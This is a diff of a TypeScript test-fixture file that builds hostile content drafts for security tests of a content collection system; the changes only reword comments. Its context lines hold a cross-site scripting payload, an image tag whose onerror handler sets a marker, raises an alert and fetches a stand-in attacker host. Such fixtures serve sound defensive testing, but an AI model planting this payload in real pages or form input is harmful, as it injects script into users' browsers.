@@ -1,7 +1,7 @@
-/** Drafts for tests that try to run something in the browser of whoever opens them. */
+/** Drafts for tests that try to run something in the browser that opens them. */
 import type { CollectionName } from '#schemas/collections.ts';
 
-/** Sets a mark where it runs, opens a dialog and asks somebody else. */
+/** If it runs, it sets a mark, opens a dialog and asks somebody else. */
 const attack = "window.top.hacked=1;alert(1);fetch('https://evil.example/')";
 const img = `<img src=x onerror="${attack}">`;
 
@@ -62,9 +62,9 @@ const fields = [
 export interface HostileDraft {
   name: string;
   collection: CollectionName;
-  /** As the form hands it over. */
+  /** The data as the form hands it over. */
   data: Record<string, unknown>;
-  /** As a file of a pull request may have it, which no form has written. */
+  /** A file of a pull request that no form has written. */
   text?: string;
 }
 
